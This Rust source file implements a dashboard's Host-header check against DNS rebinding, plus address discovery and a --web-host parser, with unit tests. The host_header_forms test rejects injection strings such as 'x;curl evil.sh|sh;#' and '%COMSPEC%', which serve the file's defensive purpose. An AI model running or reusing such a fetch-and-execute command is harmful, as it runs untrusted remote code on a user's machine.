//! The `Host` header check. Without a token, the dashboard would answer a web page anywhere
//! that gets a browser on this machine to resolve its own name to this host (DNS rebinding):
//! so, without a token, only the address the request came in on, `localhost` and the names
//! given with `--web-host` are served (421 otherwise). A `Host` that is not a host name or IP
//! address is refused (400) in every case, and only a checked `Host` ever reaches a page
//! (as [`VerifiedHost`], e.g. for the Products page's client commands).
//!
//! Also the addresses clients can reach the host at ([`client_addresses`]), and `--web-host`'s
//! parser: both in every build, the check itself with the `web` feature.
#![cfg_attr(not(feature = "web"), allow(dead_code))]

use std::net::{IpAddr, SocketAddr};

#[cfg(feature = "web")]
use {
    super::auth::OPEN_PATHS,
    super::error::json_error,
    super::listener::LocalAddr,
    axum::extract::{Request, State},
    axum::http::header::{CONNECTION, HOST},
    axum::http::{HeaderValue, StatusCode},
    axum::middleware::Next,
    axum::response::Response,
    std::sync::Arc,
};

/// A `Host` the dashboard accepted: the host part only (no port, no IPv6 brackets),
/// lower case. Set as a request extension by [`check_host`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VerifiedHost(pub String);

/// What [`check_host`] accepts.
#[derive(Debug, Clone, Default)]
pub struct HostPolicy {
    /// Whether requests carry a token (then any well-formed `Host` is served).
    pub token: bool,
    /// The `--web-host` names, lower case.
    pub names: Vec<String>,
}

/// Whether `name` is a DNS host name: dot-separated labels of letters, digits and hyphens
/// (not at a label's ends), at most 63 bytes each and 253 in all; one final dot allowed.
pub fn is_host_name(name: &str) -> bool {
    let name = name.strip_suffix('.').unwrap_or(name);
    !name.is_empty()
        && name.len() <= 253
        && name.split('.').all(|label| {
            !label.is_empty()
                && label.len() <= 63
                && !label.starts_with('-')
                && !label.ends_with('-')
                && label
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-')
        })
}

/// Parses `--web-host`: a host name or IP address the dashboard may be reached at.
pub fn parse_web_host(text: &str) -> Result<String, String> {
    let t = text.trim();
    let t = t
        .strip_prefix('[')
        .and_then(|r| r.strip_suffix(']'))
        .unwrap_or(t);
    if t.parse::<IpAddr>().is_ok() || is_host_name(t) {
        return Ok(normalize(t));
    }
    Err(format!(
        "'{text}': expected a host name (e.g. kms.example.lan) or an IP address, without port"
    ))
}

fn normalize(host: &str) -> String {
    let h = host.strip_suffix('.').unwrap_or(host).to_ascii_lowercase();
    match h.parse::<IpAddr>() {
        Ok(ip) => ip.to_canonical().to_string(),
        Err(_) => h,
    }
}

/// The host part of a `Host` header value (`name[:port]`, `v4[:port]`, `[v6][:port]`),
/// normalized; `None` when it is not a well-formed host name or IP address with an optional
/// numeric port.
pub fn host_of(value: &str) -> Option<String> {
    let (host, port) = if let Some(rest) = value.strip_prefix('[') {
        let (v6, after) = rest.split_once(']')?;
        v6.parse::<std::net::Ipv6Addr>().ok()?;
        let port = match after {
            "" => None,
            p => Some(p.strip_prefix(':')?),
        };
        (v6, port)
    } else {
        match value.split_once(':') {
            Some((h, p)) => (h, Some(p)),
            None => (value, None),
        }
    };
    if let Some(p) = port {
        if p.is_empty() || p.len() > 5 || !p.bytes().all(|b| b.is_ascii_digit()) {
            return None;
        }
    }
    let ok = host.parse::<IpAddr>().is_ok() || is_host_name(host);
    ok.then(|| normalize(host))
}

impl HostPolicy {
    /// Whether a request for `host` that came in on `local` is served without a token: the
    /// local address itself, `localhost`, or a `--web-host` name.
    pub fn allows(&self, host: &str, local: Option<SocketAddr>) -> bool {
        if host == "localhost" || self.names.iter().any(|n| n == host) {
            return true;
        }
        match (host.parse::<IpAddr>(), local) {
            (Ok(ip), Some(local)) => ip.to_canonical() == local.ip().to_canonical(),
            // The local address is always known when served by our listener.
            (Ok(ip), None) => ip.is_loopback(),
            (Err(_), _) => false,
        }
    }
}

#[cfg(feature = "web")]
fn refuse(status: StatusCode, message: &str) -> Response {
    let mut response = json_error(status, message);
    // Nothing more on this connection: a refused client holds nothing.
    response
        .headers_mut()
        .insert(CONNECTION, HeaderValue::from_static("close"));
    response
}

/// Middleware: refuses malformed or repeated `Host` headers (400) and, without a token, hosts
/// [`HostPolicy::allows`] does not accept (421, except for `/livez` and `/readyz`); sets
/// [`VerifiedHost`] for the pages.
#[cfg(feature = "web")]
pub async fn check_host(
    State(policy): State<Arc<HostPolicy>>,
    mut request: Request,
    next: Next,
) -> Response {
    let mut values = request.headers().get_all(HOST).iter();
    let header = values.next();
    if values.next().is_some() {
        return refuse(StatusCode::BAD_REQUEST, "more than one Host header");
    }
    // An absolute request target names the host too; both must pass.
    let mut hosts = Vec::new();
    if let Some(authority) = request.uri().authority() {
        hosts.push(authority.as_str().to_owned());
    }
    if let Some(value) = header {
        match value.to_str() {
            Ok(v) => hosts.push(v.trim().to_owned()),
            Err(_) => return refuse(StatusCode::BAD_REQUEST, "the Host header is not text"),
        }
    }
    let local = request.extensions().get::<LocalAddr>().map(|l| l.0);
    let open = OPEN_PATHS.contains(&request.uri().path());
    let mut verified = None;
    for given in &hosts {
        let Some(host) = host_of(given) else {
            return refuse(
                StatusCode::BAD_REQUEST,
                "the Host header must be a host name or IP address with an optional port",
            );
        };
        if !policy.token && !open && !policy.allows(&host, local) {
            let url = local.map_or_else(String::new, |l| format!(" (http://{l}/)"));
            return refuse(
                StatusCode::MISDIRECTED_REQUEST,
                &format!(
                    "this dashboard is not served under the name '{host}': use its address{url} \
                     or localhost, or start rkms with --web-host {host} to serve it under that name"
                ),
            );
        }
        verified = Some(host);
    }
    if let Some(host) = verified {
        request.extensions_mut().insert(VerifiedHost(host));
    }
    next.run(request).await
}

/// The first address of this machine clients on the network can use: a non-loopback,
/// non-link-local IPv4 address of an interface that is up, else (when `v6`) such an IPv6
/// address. `None` when there is none or the interfaces cannot be listed.
pub fn machine_address(v6: bool) -> Option<IpAddr> {
    let candidates = interface_addresses();
    candidates
        .iter()
        .find(|ip| ip.is_ipv4() && usable(ip))
        .or_else(|| {
            candidates
                .iter()
                .find(|ip| v6 && ip.is_ipv6() && usable(ip))
        })
        .copied()
}

/// An address other machines may reach this one at (not loopback, link-local or unspecified).
fn usable(ip: &IpAddr) -> bool {
    match ip {
        IpAddr::V4(a) => !a.is_loopback() && !a.is_unspecified() && !a.is_link_local(),
        IpAddr::V6(a) => {
            !a.is_loopback()
                && !a.is_unspecified()
                && (a.segments()[0] & 0xffc0) != 0xfe80
                && a.to_ipv4_mapped().is_none()
        }
    }
}

/// The addresses clients can use to reach listeners bound to `bound`: a wildcard address
/// ([::] or 0.0.0.0) stands for the machine's non-loopback addresses (IPv4 first; [::] also
/// accepts IPv4), any other address for itself.
pub fn client_addresses(bound: &[SocketAddr]) -> Vec<SocketAddr> {
    let machine = interface_addresses();
    expand_addresses(bound, &machine)
}

fn expand_addresses(bound: &[SocketAddr], machine: &[IpAddr]) -> Vec<SocketAddr> {
    let mut out: Vec<SocketAddr> = Vec::new();
    for b in bound {
        if b.ip().is_unspecified() {
            let mut ips: Vec<IpAddr> = machine
                .iter()
                .filter(|ip| usable(ip) && (b.is_ipv6() || ip.is_ipv4()))
                .copied()
                .collect();
            ips.sort_by_key(|ip| ip.is_ipv6());
            out.extend(ips.into_iter().map(|ip| SocketAddr::new(ip, b.port())));
        } else {
            out.push(*b);
        }
    }
    let mut seen = std::collections::HashSet::new();
    out.retain(|a| seen.insert(*a));
    out
}

#[cfg(unix)]
fn interface_addresses() -> Vec<IpAddr> {
    use nix::net::if_::InterfaceFlags;
    let Ok(addrs) = nix::ifaddrs::getifaddrs() else {
        return Vec::new();
    };
    addrs
        .filter(|a| {
            a.flags.contains(InterfaceFlags::IFF_UP)
                && !a.flags.contains(InterfaceFlags::IFF_LOOPBACK)
        })
        .filter_map(|a| {
            let addr = a.address?;
            if let Some(v4) = addr.as_sockaddr_in() {
                return Some(IpAddr::V4(v4.ip()));
            }
            addr.as_sockaddr_in6().map(|v6| IpAddr::V6(v6.ip()))
        })
        .collect()
}

/// Without a list of interfaces: the address the system would send from to a documentation
/// address (no packet is sent).
#[cfg(not(unix))]
fn interface_addresses() -> Vec<IpAddr> {
    let probe = |bind: &str, to: &str| {
        let s = std::net::UdpSocket::bind(bind).ok()?;
        s.connect(to).ok()?;
        s.local_addr().ok().map(|a| a.ip())
    };
    [
        probe("0.0.0.0:0", "192.0.2.1:1688"),
        probe("[::]:0", "[2001:db8::1]:1688"),
    ]
    .into_iter()
    .flatten()
    .collect()
}

#[cfg(test)]
mod tests {
    #[test]
    fn wildcard_listeners_stand_for_the_machine_addresses() {
        let machine: Vec<IpAddr> = ["127.0.0.1", "192.168.1.5", "fe80::1", "2001:db8::5"]
            .iter()
            .map(|s| s.parse().unwrap())
            .collect();
        let a = |s: &str| s.parse::<SocketAddr>().unwrap();
        assert_eq!(
            super::expand_addresses(&[a("[::]:1688")], &machine),
            vec![a("192.168.1.5:1688"), a("[2001:db8::5]:1688")]
        );
        assert_eq!(
            super::expand_addresses(&[a("0.0.0.0:1700"), a("127.0.0.1:1688")], &machine),
            vec![a("192.168.1.5:1700"), a("127.0.0.1:1688")]
        );
    }

    use super::*;

    #[test]
    fn host_header_forms() {
        assert_eq!(host_of("kms.lan:8080").as_deref(), Some("kms.lan"));
        assert_eq!(host_of("KMS.Lan.").as_deref(), Some("kms.lan"));
        assert_eq!(host_of("[::1]:8080").as_deref(), Some("::1"));
        assert_eq!(host_of("[::ffff:127.0.0.1]").as_deref(), Some("127.0.0.1"));
        assert_eq!(host_of("192.0.2.3:80").as_deref(), Some("192.0.2.3"));
        for bad in [
            "",
            ":80",
            "x;curl evil.sh|sh;#",
            "x;curl evil.sh|sh;#:1688",
            "a b",
            "kms.lan:",
            "kms.lan:80:80",
            "kms.lan:http",
            "::1",
            "[::1",
            "[::1]x",
            "%COMSPEC%",
            "-x.lan",
            "a..b",
        ] {
            assert_eq!(host_of(bad), None, "{bad:?}");
        }
    }

    #[test]
    fn token_less_names() {
        let p = HostPolicy {
            token: false,
            names: vec!["kms.lan".into()],
        };
        let local: SocketAddr = "127.0.0.1:8080".parse().unwrap();
        let mapped: SocketAddr = "[::ffff:192.0.2.2]:8080".parse().unwrap();
        assert!(p.allows("localhost", Some(local)));
        assert!(p.allows("127.0.0.1", Some(local)));
        assert!(p.allows("kms.lan", Some(local)));
        assert!(p.allows("192.0.2.2", Some(mapped)));
        assert!(!p.allows("127.0.0.2", Some(local)));
        assert!(!p.allows("evil.example", Some(local)));
        assert!(!p.allows("kms.lan.evil.example", Some(local)));
    }

    #[test]
    fn web_host_option() {
        assert_eq!(parse_web_host("KMS.lan").unwrap(), "kms.lan");
        assert_eq!(parse_web_host("[fd00::2]").unwrap(), "fd00::2");
        assert!(parse_web_host("kms.lan:8080").is_err());
        assert!(parse_web_host("x;y").is_err());
        assert!(parse_web_host("").is_err());
    }
}
